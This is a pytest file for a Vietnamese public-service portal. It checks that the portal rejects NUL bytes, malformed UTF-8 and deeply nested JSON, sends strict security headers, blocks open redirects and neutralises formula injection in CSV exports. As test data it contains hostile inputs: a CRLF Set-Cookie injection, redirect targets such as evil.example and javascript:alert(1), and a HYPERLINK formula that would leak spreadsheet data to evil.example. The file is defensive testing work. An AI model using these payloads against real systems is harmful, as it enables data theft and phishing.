"""The edge of the portal: hostile input is refused cleanly, every answer carries the security headers.

Issue items: NUL and other control characters in any looked-up text (7),
non-ASCII signatures and rating tokens (8), deeply nested or oversized JSON (9),
framing (11), the security headers and the language switch's redirect (12),
formula injection into CSV exports (13). Runs on SQLite and PostgreSQL alike;
on PostgreSQL a NUL byte that reached a query answered 500.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import time
import uuid
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from litestar import Litestar, get, post
from litestar.middleware import DefineMiddleware
from litestar.params import JSONBody
from litestar.testing import TestClient

from agents.city.callbacks import sign
from agents.ratings.links import rating_token
from agents.reporting.export import safe_cell
from agents.staff.models import Role
from portal.core.settings import SettingsError, load_settings
from portal.exceptions import EXCEPTION_HANDLERS
from portal.security import headers as security_headers
from portal.security.input_guard import (
    MAX_BODY_BYTES,
    MAX_JSON_DEPTH,
    MAX_MULTIPART_BYTES,
    InputGuardMiddleware,
    InputLimits,
    Refused,
    check_multipart,
    json_too_deep,
)
from tests.factories import (
    BIRTH_FORM,
    citizen,
    create_partner,
    create_person,
    create_point,
    create_staff,
    ensure_procedures,
    file_birth_registration,
)

MSG_BAD_TEXT = "Yêu cầu chứa ký tự không hợp lệ"
MSG_BAD_TEXT_EN = "The request contains characters that are not allowed"
MSG_TOO_DEEP = "Dữ liệu JSON lồng nhau quá sâu"
MSG_TOO_LARGE = "Yêu cầu quá lớn"
NUL = "\x00"
TEMPLATES = Path(__file__).resolve().parents[2] / "templates"


@pytest.fixture(scope="module")
def people():
    ensure_procedures()
    partner = create_partner()
    point = create_point(partner)
    staff = create_staff(point, partner)
    return {
        "partner": partner,
        "point": point,
        "staff": staff,
        "manager": create_person((Role.partner_manager, partner, None)),
        "admin": create_person((Role.center_admin, None, None)),
        "dossier": file_birth_registration(staff, point),
    }


def _client(portal, people, who: str):  # type: ignore[no-untyped-def]
    client = portal()
    if who != "anonymous":
        assert client.sign_in(people[who].email).status_code in (302, 303)
    return client


def _filing(people, **overrides: Any) -> dict[str, Any]:
    body = {
        "procedure_code": "1.001193",
        "agent_point_id": str(people["point"].id),
        "idempotency_key": uuid.uuid4().hex,
        "citizen": citizen(),
        "form": dict(BIRTH_FORM),
    }
    body.update(overrides)
    return body


def _assert_refused_as_bad_text(response, *, api: bool, message: str = MSG_BAD_TEXT) -> None:  # type: ignore[no-untyped-def]
    assert response.status_code == 400, response.text[:500]
    if api and response.url.path == "/api/oauth/token":  # RFC 6749 §5.2's error shape
        assert response.json() == {"error": "invalid_request", "error_description": message}
        assert response.headers["cache-control"] == "no-store"
    elif api:
        body = response.json()
        assert body["error"] == "invalid_input" and body["message"] == message
    else:
        assert response.headers["content-type"].startswith("text/html")
        assert message in response.text and "(400)" in response.text


# -- item 7: a NUL byte in any looked-up value ----------------------------------------

Probe = Callable[[Any, dict[str, Any]], Any]

# The endpoints the probe found answering 500 on PostgreSQL, and their neighbours.
NUL_PROBES: list[tuple[str, str, bool, Probe]] = [
    (
        "/login email",
        "anonymous",
        False,
        lambda c, p: c.post_form("/login", {"email": f"a{NUL}@x.vn", "password": "x"}),
    ),
    (
        "/track code",
        "anonymous",
        False,
        lambda c, p: c.post_form("/track", {"code": f"HN-{NUL}", "phone": "0912345678"}),
    ),
    (
        "/api/v1/track code",
        "anonymous",
        True,
        lambda c, p: c.post_json("/api/v1/track", {"tracking_code": f"HN-{NUL}", "phone": "0912345678"}),
    ),
    (
        "client_id on /api/oauth/token (form)",
        "anonymous",
        True,
        lambda c, p: c.http.post(
            "/api/oauth/token",
            data={"grant_type": "client_credentials", "client_id": f"x{NUL}", "client_secret": "y"},
        ),
    ),
    (
        "client_id on /api/oauth/token (Basic)",
        "anonymous",
        True,
        lambda c, p: c.http.post(
            "/api/oauth/token",
            data={"grant_type": "client_credentials"},
            headers={"authorization": "Basic " + base64.b64encode(b"x%00:y").decode()},
        ),
    ),
    ("GET /rate/HN-%00", "anonymous", False, lambda c, p: c.get("/rate/HN-%00")),
    (
        "POST /rate/HN-%00",
        "anonymous",
        False,
        lambda c, p: c.post_form("/rate/HN-%00", {"token": "x", "stars": "3"}),
    ),
    ("/auth/sso/vn%00post", "anonymous", False, lambda c, p: c.get("/auth/sso/vn%00post")),
    # Percent-encoded twice: Litestar decodes path parameters again after the edge decoded the path once.
    ("GET /rate/HN-%2500", "anonymous", False, lambda c, p: c.get("/rate/HN-%2500")),
    ("/auth/sso/vn%2500post", "anonymous", False, lambda c, p: c.get("/auth/sso/vn%2500post")),
    (
        "/auth/sso/vn%00post/callback",
        "anonymous",
        False,
        lambda c, p: c.get("/auth/sso/vn%00post/callback?state=x&code=y"),
    ),
    (
        "idempotency key on POST /api/v1/dossiers",
        "staff",
        True,
        lambda c, p: c.post_json("/api/v1/dossiers", _filing(p, idempotency_key=f"k{NUL}")),
    ),
    (
        "procedure code on POST /api/v1/dossiers",
        "staff",
        True,
        lambda c, p: c.post_json("/api/v1/dossiers", _filing(p, procedure_code=f"1.{NUL}")),
    ),
    (
        "citizen field on POST /api/v1/dossiers",
        "staff",
        True,
        lambda c, p: c.post_json("/api/v1/dossiers", _filing(p, citizen=citizen(owner_address=f"a{NUL}"))),
    ),
    ("GET /dossiers/new/{code}", "staff", False, lambda c, p: c.get("/dossiers/new/1.%00")),
    (
        "idempotency key on the counter form",
        "staff",
        False,
        lambda c, p: c.post_form(
            "/dossiers/new/1.001193",
            {**c.form_defaults("/dossiers/new/1.001193"), **citizen(), "idempotency_key": f"k{NUL}"},
        ),
    ),
    (
        "point code on /partner/points",
        "manager",
        False,
        lambda c, p: c.post_form(
            "/partner/points",
            {"code": f"X{NUL}", "name": "n", "address": "a", "ward": "w", "latitude": "21", "longitude": "105.8"},
        ),
    ),
    (
        "email on /partner/staff/invite",
        "manager",
        False,
        lambda c, p: c.post_form(
            "/partner/staff/invite",
            {"email": f"a{NUL}@x.vn", "full_name": "n", "role": "agent_staff", "agent_point_id": str(p["point"].id)},
        ),
    ),
    (
        "client id on /partner/api-clients/{id}/revoke",
        "manager",
        False,
        lambda c, p: c.post_form("/partner/api-clients/ab%00/revoke", {"reason": "no longer used"}),
    ),
    (
        "manager email on /center/partners",
        "admin",
        False,
        lambda c, p: c.post_form(
            "/center/partners",
            {"code": "Q1", "name": "n", "kind": "post", "manager_email": f"m{NUL}@x.vn", "manager_name": "m"},
        ),
    ),
]


@pytest.mark.parametrize(("where", "who", "api", "probe"), NUL_PROBES, ids=[p[0] for p in NUL_PROBES])
def test_a_nul_byte_is_refused_at_the_edge_with_a_clear_400(portal, people, where, who, api, probe):
    response = probe(_client(portal, people, who), people)
    _assert_refused_as_bad_text(response, api=api)


def test_the_refusal_speaks_the_language_of_the_lang_cookie(portal, people):
    client = portal()
    client.http.cookies.set("lang", "en")
    page = client.post_form("/track", {"code": f"HN-{NUL}", "phone": "0912345678"})
    _assert_refused_as_bad_text(page, api=False, message=MSG_BAD_TEXT_EN)
    assert "Invalid request" in page.text
    api = client.post_json("/api/v1/track", {"tracking_code": f"HN-{NUL}", "phone": "1"})
    _assert_refused_as_bad_text(api, api=True, message=MSG_BAD_TEXT_EN)
    assert api.json()["field_errors"] == {"json:tracking_code": MSG_BAD_TEXT_EN}


@pytest.mark.parametrize(
    ("where", "send"),
    [
        ("another C0 control in the query", lambda c: c.get("/track?code=HN%01")),
        ("a line feed in the query", lambda c: c.get("/login?next=/x%0d%0aSet-Cookie:a=b")),
        ("invalid UTF-8 in the query", lambda c: c.get("/track?code=%C0%AF")),
        ("an encoded lone surrogate in the path", lambda c: c.get("/rate/HN-%ED%A0%80")),
        ("a NUL in a form field's name", lambda c: c.post_form("/track", {f"co{NUL}de": "x", "phone": "1"})),
        (
            "invalid UTF-8 in a form body",
            lambda c: c.http.post(
                "/login",
                content=b"email=%C0%AF&password=x&_csrf_token=" + c.csrf.encode(),
                headers={"content-type": "application/x-www-form-urlencoded"},
            ),
        ),
        (
            "a NUL in a multipart field",
            lambda c: c.http.post(
                "/track", data={"code": f"HN-{NUL}", "phone": "1", "_csrf_token": c.csrf}, files={"f": b"x"}
            ),
        ),
        (
            "a non-ASCII CSRF token (Litestar compares tokens as text)",
            lambda c: c.http.post("/track", data={"code": "x", "phone": "1", "_csrf_token": "é" * 70}),
        ),
    ],
)
def test_other_text_with_no_place_in_a_page_request_is_refused(portal, where, send):
    _assert_refused_as_bad_text(send(portal()), api=False)


def test_an_unsound_cookie_of_the_portals_is_dropped_not_refused(portal):
    """A cookie is not typed by a person, and a sibling host can set one: refusing would lock the browser out."""
    client = portal()
    page = client.get("/", headers={"cookie": "lang=%00en; other_app=%00kept"})
    assert page.status_code == 200 and '<html lang="vi">' in page.text  # as if no lang cookie was sent
    non_ascii = ("csrftoken=" + "é" * 70).encode()
    form = portal().http.get("/login", headers={"cookie": non_ascii})
    issued = form.cookies.get("csrftoken")
    assert form.status_code == 200 and issued and issued.isascii()  # as if none was sent: a new token
    refused = portal().http.post(
        "/track", data={"code": "x", "phone": "1", "_csrf_token": "a" * 70}, headers={"cookie": non_ascii}
    )
    assert refused.status_code == 403  # as if the cookie were missing: CSRF refusal, not a 500


@pytest.mark.parametrize(
    ("where", "body"),
    [
        ("a JSON \\u0000 escape", b'{"tracking_code": "HN-\\u0000", "phone": "1"}'),
        ("a lone surrogate escape", b'{"tracking_code": "\\ud800", "phone": "1"}'),
        ("a NUL in a key", b'{"tracking_code\\u0000": "HN", "phone": "1"}'),
        ("a control character deep inside", b'{"a": [{"b": ["ok", "x\\u001b"]}], "tracking_code": "", "phone": ""}'),
        ("invalid UTF-8", b'{"tracking_code": "\xc0\xaf", "phone": "1"}'),
    ],
)
def test_every_string_of_a_json_body_is_checked(portal, where, body):
    client = portal()
    response = client.http.post(
        "/api/v1/track", content=body, headers={"content-type": "application/json", "x-csrftoken": client.csrf}
    )
    _assert_refused_as_bad_text(response, api=True)


def test_a_non_ascii_csrf_header_is_refused_not_a_500(portal):
    client = portal()
    response = client.http.post(
        "/api/v1/track", json={"tracking_code": "x", "phone": "y"}, headers={"x-csrftoken": ("é" * 70).encode()}
    )
    _assert_refused_as_bad_text(response, api=True)


def test_ordinary_text_passes_untouched_and_bodies_reach_their_handlers(portal, people):
    """Vietnamese, tabs and line breaks inside bodies, file contents with any bytes: not the guard's business."""
    client = portal()
    dossier = people["dossier"]
    found = client.post_form("/track", {"code": f"\t{dossier.tracking_code.lower()}\r\n", "phone": "0912345678"})
    assert found.status_code == 200 and dossier.tracking_code in found.text
    multipart = client.http.post(
        "/track",
        content=_multipart(
            ("code", None, dossier.tracking_code.encode()),
            ("phone", None, b"0912345678"),
            ("_csrf_token", None, client.csrf.encode()),
        ),
        headers={"content-type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    assert multipart.status_code == 200 and dossier.tracking_code in multipart.text
    api = client.post_json("/api/v1/track", {"tracking_code": dossier.tracking_code, "phone": "0912 345 678"})
    assert api.status_code == 200 and api.json()["tracking_code"] == dossier.tracking_code
    staff = _client(portal, people, "staff")
    filed = staff.post_json("/api/v1/dossiers", _filing(people, citizen=citizen(owner_address="Số 1,\nHàng Bài\tHN")))
    assert filed.status_code == 201, filed.text


BOUNDARY = "portal-test-boundary"


def _multipart(*parts: tuple[str, str | None, bytes]) -> bytes:
    out = b""
    for name, filename, content in parts:
        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        out += f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + content + b"\r\n"
    return out + f"--{BOUNDARY}--\r\n".encode()


def test_multipart_file_contents_are_not_text_but_names_and_values_are():
    check_multipart(
        _multipart(("note", None, "Hàng Bài\r\n".encode()), ("scan", "scan.pdf", b"%PDF\x00\xff")), BOUNDARY
    )
    for refused in (
        _multipart(("note", None, b"a\x00")),
        _multipart(("no\x00te", None, b"a")),
        _multipart(("scan", "sc\x00an.pdf", b"%PDF")),
        _multipart(("note", None, b"\xc0\xaf")),
    ):
        with pytest.raises(Refused):
            check_multipart(refused, BOUNDARY)


# -- item 8: non-ASCII signatures and rating tokens -----------------------------------


def _callback(client, body: bytes, *, signature: bytes | None = None, secret: str = "", **headers: str):  # type: ignore[no-untyped-def]
    ts = str(int(time.time()))
    return client.http.post(
        "/api/city/callbacks",
        content=body,
        headers={
            "content-type": "application/json",
            "x-city-timestamp": ts,
            "x-city-signature": signature if signature is not None else sign(secret, ts, body).encode(),
            **headers,
        },
    )


def test_a_non_ascii_callback_signature_is_refused_like_a_wrong_one(portal):
    client = portal()
    non_ascii = _callback(client, b"{}", signature="sha256=é".encode())
    wrong = _callback(client, b"{}", secret="not the secret")
    assert non_ascii.status_code == wrong.status_code == 401
    assert (
        non_ascii.json() == wrong.json() == {"error": "unauthenticated", "message": "callback signature does not match"}
    )


def test_a_rating_link_never_tells_a_real_tracking_code_from_an_unknown_one(portal, people):
    client = portal()
    real, unknown = people["dossier"].tracking_code, "HN-0000-0000"
    answers = {
        "real code, non-ASCII token": client.get(f"/rate/{real}?token=%C3%A9"),
        "real code, wrong token": client.get(f"/rate/{real}?token=abc"),
        "unknown code, non-ASCII token": client.get(f"/rate/{unknown}?token=%C3%A9"),
        "unknown code, its would-be token": client.get(
            f"/rate/{unknown}?token={rating_token(unknown, datetime.now(UTC))}"
        ),
        "POST real code, non-ASCII token": client.post_form(f"/rate/{real}", {"token": "é", "stars": "3"}),
        "POST real code, wrong token": client.post_form(f"/rate/{real}", {"token": "abc", "stars": "3"}),
        "POST unknown code, non-ASCII token": client.post_form(f"/rate/{unknown}", {"token": "é", "stars": "3"}),
    }
    assert {name: r.status_code for name, r in answers.items()} == dict.fromkeys(answers, 404)
    assert len({r.text for r in answers.values()}) == 1, "the pages differ"
    assert "Liên kết đánh giá không hợp lệ" in answers["real code, wrong token"].text
    genuine = client.get(f"/rate/{real}?token={rating_token(real, people['dossier'].submitted_at)}")
    assert genuine.status_code == 200


# -- item 9: deep and large JSON ------------------------------------------------------

DEEP = b'{"a":' * 1000 + b"1" + b"}" * 1000  # about 6 KB
DEEP_ARRAY = b"[" * 1000 + b"]" * 1000  # 2 KB


def _assert_too_deep(response) -> None:  # type: ignore[no-untyped-def]
    assert response.status_code == 400, response.text[:300]
    assert response.json()["error"] == "invalid_input" and response.json()["message"] == MSG_TOO_DEEP


def test_deeply_nested_json_is_refused_before_any_parser_sees_it(portal, people, settings):
    anonymous = portal()
    for body in (DEEP, DEEP_ARRAY):
        _assert_too_deep(
            anonymous.http.post(
                "/api/v1/track",
                content=body,
                headers={"content-type": "application/json", "x-csrftoken": anonymous.csrf},
            )
        )
    staff = _client(portal, people, "staff")
    _assert_too_deep(
        staff.http.post(
            "/api/v1/dossiers", content=DEEP, headers={"content-type": "application/json", "x-csrftoken": staff.csrf}
        )
    )


@pytest.mark.parametrize("content_type", ["application/json", "text/plain", "application/x-www-form-urlencoded"])
def test_a_deep_callback_with_a_valid_signature_is_refused_cleanly(portal, settings, content_type):
    """The route parses its raw body itself, whatever the declared type: the scan does not trust the header."""
    response = _callback(portal(), DEEP_ARRAY, secret=settings.city.webhook_secret, **{"content-type": content_type})
    _assert_too_deep(response)


def test_json_at_the_depth_limit_reaches_the_handler(portal):
    client = portal()
    nested: Any = "x"
    for _ in range(MAX_JSON_DEPTH - 1):
        nested = [nested]
    response = client.post_json("/api/v1/track", {"tracking_code": nested, "phone": "1"})
    assert response.status_code == 400 and response.json()["error"] != "invalid_input"  # the route's own refusal


def test_the_depth_scan_counts_brackets_outside_strings_only():
    assert not json_too_deep(json.dumps({"note": "[" * 500 + '\\"' + "{" * 500}).encode(), 3)
    assert not json_too_deep(b'{"a": "\\\\", "b": [[1]]}', 3)  # an escaped backslash ends before the quote
    assert json_too_deep(b'{"a": "\\\\", "b": [[[1]]]}', 3)
    assert json_too_deep(DEEP_ARRAY, MAX_JSON_DEPTH) and not json_too_deep(b"[[[]]]", 3)


def test_bodies_over_the_size_limit_answer_413(portal):
    client = portal()
    big = {"tracking_code": "x" * (MAX_BODY_BYTES + 1), "phone": "1"}
    api = client.post_json("/api/v1/track", big)
    assert api.status_code == 413
    assert api.json()["error"] == "request_too_large" and api.json()["message"] == MSG_TOO_LARGE
    page = client.post_form("/login", {"email": "a" * (MAX_BODY_BYTES + 1), "password": "x"})
    assert page.status_code == 413 and MSG_TOO_LARGE in page.text


def test_the_limits_are_settings():
    assert InputLimits.from_settings(load_settings({}).web) == InputLimits(
        MAX_BODY_BYTES, MAX_MULTIPART_BYTES, MAX_JSON_DEPTH
    )
    with pytest.raises(SettingsError, match="PORTAL_MAX_JSON_DEPTH"):
        load_settings({"PORTAL_MAX_JSON_DEPTH": "deep"})
    limits = InputLimits.from_settings(load_settings({"PORTAL_MAX_BODY_BYTES": "64", "PORTAL_MAX_JSON_DEPTH": "2"}).web)

    @post("/api/echo", sync_to_thread=False)
    def echo(data: JSONBody[dict[str, Any]]) -> dict[str, Any]:
        return data

    app = Litestar(
        [echo],
        middleware=[DefineMiddleware(InputGuardMiddleware, limits=limits)],
        exception_handlers=EXCEPTION_HANDLERS,
    )  # type: ignore[arg-type]
    with TestClient(app) as client:
        assert client.post("/api/echo", json={"a": [1]}).json() == {"a": [1]}
        assert client.post("/api/echo", json={"a": [[1]]}).status_code == 400
        assert client.post("/api/echo", json={"a": "x" * 64}).status_code == 413


# -- items 11 and 12: headers on every answer -----------------------------------------


def _policy(response) -> dict[str, str]:  # type: ignore[no-untyped-def]
    directives = [d.strip().split(None, 1) for d in response.headers["content-security-policy"].split(";")]
    return {d[0]: d[1] if len(d) > 1 else "" for d in directives if d}


def test_every_kind_of_answer_refuses_framing_and_inline_script(portal, people):
    client = portal()
    staff = _client(portal, people, "staff")
    answers = {
        "home page": client.get("/"),
        "login failure": client.post_form("/login", {"email": "nobody@x.vn", "password": "x"}),
        "API answer": client.get("/api/v1/procedures"),
        "API error": client.get("/api/v1/dossiers"),
        "no such route": client.get("/no/such/page"),
        "refused input": client.get("/track?code=%00"),
        "static file": client.get("/static/portal.css"),
        "one-click buttons page": staff.get("/dossiers"),
    }
    for name, response in answers.items():
        policy = _policy(response)
        assert policy["frame-ancestors"] == "'none'", name
        assert policy["script-src"] == "'self'" and policy["style-src"] == "'self'", name
        assert policy["object-src"] == "'none'" and policy["default-src"] == "'self'", name
        assert response.headers["x-frame-options"] == "DENY", name
        assert response.headers["x-content-type-options"] == "nosniff", name
        assert response.headers["referrer-policy"] == "same-origin", name
        assert "strict-transport-security" not in response.headers, name  # not in production


def test_a_path_can_be_allowed_to_be_framed_by_its_own_site(portal, monkeypatch):
    """The hook a back office with its own iframes would use."""
    monkeypatch.setitem(security_headers.POLICY_BY_PATH, "/backoffice", {"frame-ancestors": "'self'"})
    framed = portal().get("/backoffice/anything")
    assert _policy(framed)["frame-ancestors"] == "'self'" and framed.headers["x-frame-options"] == "SAMEORIGIN"
    assert _policy(portal().get("/backoffices"))["frame-ancestors"] == "'none'"


def test_hsts_is_sent_in_production_only():
    @get("/", sync_to_thread=False)
    def hello() -> str:
        return "hello"

    for production, expected in ((True, "max-age=31536000"), (False, None)):
        app = Litestar([hello], before_send=[security_headers.security_headers(production=production)])
        with TestClient(app) as client:
            assert client.get("/").headers.get("strict-transport-security") == expected


def test_pages_and_api_answers_with_a_citizens_data_are_never_stored(portal, people):
    staff = _client(portal, people, "staff")
    dossier = people["dossier"]
    answers = {
        "receipt": staff.get(f"/dossiers/{dossier.id}/receipt"),
        "dossier detail": staff.get(f"/dossiers/{dossier.id}"),
        "dossier list": staff.get("/dossiers"),
        "API dossier read": staff.get(f"/api/v1/dossiers/{dossier.id}"),
        "API dossier list": staff.get("/api/v1/dossiers"),
        "track result": staff.post_form("/track", {"code": dossier.tracking_code, "phone": "0912345678"}),
        "API track": staff.post_json("/api/v1/track", {"tracking_code": dossier.tracking_code, "phone": "0912345678"}),
        "home page": portal().get("/"),
    }
    assert "001090012345" in answers["receipt"].text or "0912345678" in answers["dossier detail"].text
    assert {name: r.headers.get("cache-control") for name, r in answers.items()} == dict.fromkeys(answers, "no-store")
    assert "no-store" not in portal().get("/static/portal.css").headers.get("cache-control", "")


@pytest.mark.parametrize("path", ["/schema", "/schema/swagger"])
def test_the_api_reference_runs_under_the_same_strict_policy_as_every_page(portal, path):
    page = portal().get(path)
    assert page.status_code == 200
    assert re.findall(rb"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", page.content, re.S) == []
    policy = _policy(page)
    assert policy["script-src"] == "'self'" and policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'" and "worker-src" not in policy
    assert portal().get("/schema/redoc").status_code == 404  # the CDN-loading viewers are not served


@pytest.mark.parametrize(
    ("referer", "landing"),
    [
        ("http://testserver.local/track?code=HN-1", "/track?code=HN-1"),
        ("http://testserver.local/dossiers", "/dossiers"),
        ("http://evil.example/phish", "/"),
        ("//evil.example/phish", "/"),
        ("http://testserver.local//evil.example/", "/"),
        ("http://testserver.local.evil.example/", "/"),
        ("javascript:alert(1)", "/"),
        (None, "/"),
    ],
)
def test_the_language_switch_returns_only_to_the_portals_own_pages(portal, referer, landing):
    headers = {"referer": referer} if referer else {}
    response = portal().http.get("/lang/en", headers=headers, follow_redirects=False)
    assert response.status_code in (302, 303) and response.headers["location"] == landing
    assert response.cookies.get("lang") == "en"


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
INLINE_HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)
INLINE_STYLE = re.compile(r"""\sstyle\s*=|<style""", re.I)


def test_no_template_has_inline_script_handlers_or_styles():
    found = [
        f"{template.relative_to(TEMPLATES)}: {pattern.pattern}"
        for template in TEMPLATES.rglob("*.html")
        for pattern in (INLINE_SCRIPT, INLINE_HANDLER, INLINE_STYLE)
        if pattern.search(template.read_text(encoding="utf-8"))
    ]
    assert not found, found


# -- item 13: formula injection in exports --------------------------------------------


def test_safe_cell_neutralises_formula_text_and_keeps_numbers():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for kept in ("Điểm Bờ Hồ", "1 Tràng Tiền", "", "a=b"):
        assert safe_cell(kept) == kept
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None


def test_a_pending_point_named_as_a_formula_lands_neutralised_in_the_centers_csv(portal, people):
    manager = _client(portal, people, "manager")
    name = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
    registered = manager.post_form(
        "/partner/points",
        {
            "code": f"F{uuid.uuid4().hex[:6].upper()}",
            "name": name,
            "address": "@1 Tràng Tiền",
            "ward": "Phường Hoàn Kiếm",  # a ward is chosen from the reference data: no free text to inject
            "latitude": "21.02",
            "longitude": "105.85",
        },
    )
    assert registered.status_code == 201, registered.text[:500]
    center = _client(portal, people, "admin")
    exported = center.get("/center/dashboard.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    [row] = [r for r in rows if r["point"].endswith(name)]
    assert row["point"] == "'" + name
    assert row["ward"] == "Phường Hoàn Kiếm"
    assert row["total"] == "0" and row["partner"] == people["partner"].name  # counts stay numbers
